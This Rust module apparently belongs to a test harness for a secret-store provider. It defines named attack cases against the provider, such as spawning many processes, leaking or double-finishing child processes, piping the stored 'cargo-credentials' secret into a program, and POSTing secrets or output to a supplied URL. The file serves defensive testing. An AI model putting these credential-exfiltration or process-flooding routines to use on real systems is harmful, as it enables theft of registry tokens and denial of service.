//! Attacks by way of native programs.

use lockgate_provider::process::{Child, Command};
use lockgate_provider::{Failure, Secret, http, store};

use crate::{Outcome, got};

pub fn attack(name: &str, parameters: &[&str]) -> Option<Outcome> {
    Some(match (name, parameters) {
        ("run", [program, arguments @ ..]) => run(command(program, arguments)),
        ("run-with", [variable, program, arguments @ ..]) => {
            run(command(program, arguments).variable(*variable))
        }
        ("first-line", [program, arguments @ ..]) => first_line(command(program, arguments)),
        ("start-many", [count, program, arguments @ ..]) => {
            start_many(number(count), &command(program, arguments))
        }
        ("run-many", [count, program, arguments @ ..]) => {
            run_many(number(count), &command(program, arguments))
        }
        ("leave", [program, arguments @ ..]) => leave(command(program, arguments)),
        ("finish-twice", [program, arguments @ ..]) => finish_twice(command(program, arguments)),
        ("tell-program", [program, arguments @ ..]) => {
            tell(&command(program, arguments)).and_then(output)
        }
        ("send-output", [url, program, arguments @ ..]) => {
            run(command(program, arguments)).and_then(|output| send(url, &output))
        }
        ("relay-program", [url, program, arguments @ ..]) => {
            let echoed = tell(&command(program, arguments)).and_then(output);
            echoed.and_then(|echoed| send(url, &echoed))
        }
        _ => return None,
    })
}

fn command(program: &str, arguments: &[&str]) -> Command {
    Command::new(program).arguments(arguments.iter().copied())
}

fn number(text: &str) -> usize {
    text.parse().unwrap_or(0)
}

fn run(command: Command) -> Outcome {
    output(command.start()?)
}

fn output(child: Child) -> Outcome {
    let exit = child.finish()?;
    match exit.status {
        0 => Ok(exit.output.whole()?),
        status => Err(Failure::other(format!("it ended with status {status}"))),
    }
}

fn first_line(command: Command) -> Outcome {
    let line = command.start()?.read_line()?;
    Ok(line.ok_or_else(|| Failure::other("it said nothing"))?.whole()?)
}

fn start_many(count: usize, command: &Command) -> Outcome {
    let started: Result<Vec<Child>, Failure> = (0..count).map(|_| command.start()).collect();
    got(&format!("{} programs at once", started?.len()))
}

fn run_many(count: usize, command: &Command) -> Outcome {
    for _ in 0..count {
        command.run()?;
    }
    got(&format!("{count} programs"))
}

/// Does not wait, and gives no chance to be dropped.
fn leave(command: Command) -> Outcome {
    std::mem::forget(command.start()?);
    got("left")
}

fn finish_twice(command: Command) -> Outcome {
    let child = command.start()?;
    child.finish()?;
    child.finish()?;
    got("finished twice")
}

fn tell(command: &Command) -> Result<Child, Failure> {
    let entry = store::load("cargo-credentials")?.ok_or(Failure::NotFound)?;
    let child = command.start()?;
    child.write(&[(&entry.secret).into()])?;
    Ok(child)
}

fn send(url: &str, secret: &Secret) -> Outcome {
    let request = http::Request {
        method: "POST".into(),
        url: url.into(),
        headers: Vec::new(),
        body: vec![secret.into()],
    };
    got(&format!("status {}", http::send(&request)?.status))
}
